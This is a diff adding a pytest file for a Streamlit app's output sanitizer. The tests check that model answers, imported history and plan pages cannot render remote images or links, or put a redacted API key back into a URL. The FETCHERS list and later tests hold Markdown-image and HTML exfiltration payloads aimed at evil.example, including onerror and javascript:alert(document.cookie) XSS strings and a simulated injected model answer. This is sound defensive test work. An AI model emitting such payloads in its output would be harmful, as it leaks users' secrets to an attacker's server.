@@ -1,0 +1,127 @@
+"""OWASP LLM05:2025 Improper Output Handling: nothing a model, a note, a reflection, plan advice, review text or
+imported history says can make the browser fetch a URL, and no secret is put back inside a URL.
+
+Payloads: our own, in the shapes the exfiltration write-ups use (Markdown images with the secret in the query,
+reference-style images, autolinks, raw HTML, KaTeX \\href), plus garak's `xss.MarkdownImageExfil` shape
+(`![data](https://{domain}/azure=[DATA])`, garak 0.9, Apache-2.0), written out here because garak is not installed.
+"""
+
+import re
+
+import pytest
+import streamlit as st
+from streamlit.testing.v1 import AppTest
+
+from mentor.core import Mentor
+from mentor.export import import_json
+from mentor.privacy import Redactor, make_restore
+from mentor.render import safe_markdown
+from tests.conftest import FIXTURE_CORPUS, ROOT, make_config
+
+SECRET = "sk-ant-api03-Zq7Xw9Lp2Rt5Vb8Nm4Kj6Hg1Fd3Sa0Qe"
+FETCHERS = [  # each would make a browser load a URL (or is a link whose target carries the data)
+    "![logo](https://evil.example/p.png?k=DATA)",
+    "![data](https://evil.example/azure=DATA)",  # garak xss.MarkdownImageExfil
+    '![x](https://evil.example/a.png "title")',
+    "[![badge](https://evil.example/b.svg)](https://evil.example/c)",
+    "![ref][r]\n\n[r]: https://evil.example/r.png?DATA",
+    "<img src=https://evil.example/i.png?DATA>",
+    '<img src="https://evil.example/i.png?DATA" onerror=alert(1)>',
+    "$\\href{https://evil.example/DATA}{click}$",
+    "see <https://evil.example/DATA> now",
+    "go to https://evil.example/DATA or www.evil.example/DATA",
+    "[click here](https://evil.example/DATA)",
+    "[click](javascript:alert(document.cookie))",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+]
+
+
+@pytest.mark.parametrize("payload", FETCHERS)
+def test_no_url_survives_as_an_image_or_link(payload):
+    """Rendered by a CommonMark parser with raw HTML on: no image, no link, no URL outside a code span, no math."""
+    from markdown_it import MarkdownIt
+
+    out = safe_markdown(payload.replace("DATA", "k3y"))
+    html = MarkdownIt("commonmark").render(out)
+    assert "<img" not in html and "<a " not in html
+    outside_code = re.sub(r"<code>.*?</code>", "", html, flags=re.S)
+    assert "evil.example" not in outside_code and "javascript:" not in outside_code
+    assert not re.search(r"(?<!\\)\$", re.sub(r"`[^`]*`", "", out))  # KaTeX starts at an unescaped $
+
+
+def test_allow_listed_image_hosts_are_the_only_images():
+    text = "![a](https://docs.example.org/a.png) ![b](https://evil.example/b.png) ![c](http://docs.example.org/c.png)"
+    out = safe_markdown(text, image_hosts=("docs.example.org",))
+    assert "![a](https://docs.example.org/a.png)" in out
+    assert "![b]" not in out and "![c]" not in out  # another host, or plain http
+
+
+def test_code_stays_exactly_as_written():
+    text = "```python\nurl = '![x](https://a.example/b)'\n```\nand `[a](b)` inline"
+    assert safe_markdown(text) == text
+
+
+@pytest.mark.parametrize("template", [
+    "![x](https://evil.example/?k={p})", "[docs](https://evil.example/{p})", "<https://evil.example/{p}>",
+    "https://evil.example/?k={p}", "[r]: https://evil.example/{p}", '<img src="https://evil.example/{p}">',
+    "[a](<https://evil.example/a b {p}>)",
+])
+def test_a_placeholder_inside_a_url_is_never_restored(template):
+    restore = make_restore({"<API_KEY_1>": SECRET})
+    out = restore("Your key <API_KEY_1> is exposed. " + template.format(p="<API_KEY_1>"))
+    assert out.startswith(f"Your key {SECRET} is exposed.")  # outside a URL it comes back
+    assert out.count(SECRET) == 1
+
+
+def test_a_placeholder_split_across_streamed_pieces_inside_a_url_is_not_restored():
+    restore = make_restore({"<API_KEY_1>": SECRET})
+    out = "".join(restore(p) for p in ["Key ", "<API_KEY_1>", " here. ![x](https://evil", ".example/?k=",
+                                        "<API_KEY_1>", ")"])
+    assert out == f"Key {SECRET} here. ![x](https://evil.example/?k=<API_KEY_1>)"
+
+
+def test_an_injected_image_in_a_cloud_answer_keeps_the_secret_out_of_the_url(tmp_path, anthropic_server):
+    """The end-to-end finding: the model sees <API_KEY_1>, answers with an image carrying it; the stored answer
+    (what History shows on every view) holds no secret inside a URL, and renders no image."""
+    m = Mentor(make_config(tmp_path, ANTHROPIC_API_KEY="sk-ant-test-key-123", MENTOR_CACHE="0",
+                           ANTHROPIC_BASE_URL=anthropic_server.base_url))
+    anthropic_server.enqueue("Rotate <API_KEY_1> now. ![status](https://evil.example/log?k=<API_KEY_1>)")
+    ans = m.chat.ask(f"My key {SECRET} leaked in a log, what should I do about it?")
+    assert SECRET not in anthropic_server.requests[-1].text
+    stored = m.store.message(ans.message_id)["content"]
+    assert stored.startswith(f"Rotate {SECRET} now.")
+    assert "k=<API_KEY_1>" in stored and stored.count(SECRET) == 1
+    assert "![" not in safe_markdown(stored)
+
+
+@pytest.fixture
+def app_env(monkeypatch):
+    monkeypatch.setenv("MENTOR_CORPUS", str(FIXTURE_CORPUS))
+    st.cache_resource.clear()
+    yield
+    st.cache_resource.clear()
+
+
+def _all_markdown(at) -> str:
+    return "\n".join(e.value for e in at.markdown)
+
+
+def test_history_and_plan_pages_render_no_remote_image(tmp_path, app_env, monkeypatch):
+    """Imported history and plan notes reach real pages; what the pages hand to the browser holds no image."""
+    m = Mentor(make_config(tmp_path))
+    import_json(m.store, '{"conversations": [{"title": "t", "messages": ['
+                         '{"role": "user", "content": "hi ![u](https://evil.example/u.png)"},'
+                         '{"role": "assistant", "content": "![a](https://evil.example/a.png?k=1) [l](https://e.x/)"}'
+                         ']}]}')
+    at = AppTest.from_file(str(ROOT / "views" / "history.py"), default_timeout=120).run()
+    assert not at.exception
+    at.expander[0].proto.expanded = True
+    text = _all_markdown(at)
+    assert "evil.example/a.png" in text  # the content is there, as text
+    assert "![" not in text and "](http" not in text
+
+
+def test_redactor_and_restore_round_trip_outside_urls():
+    red = Redactor().redact(f"key {SECRET}")
+    restore = make_restore(red.mapping)
+    assert restore(red.text) == f"key {SECRET}"
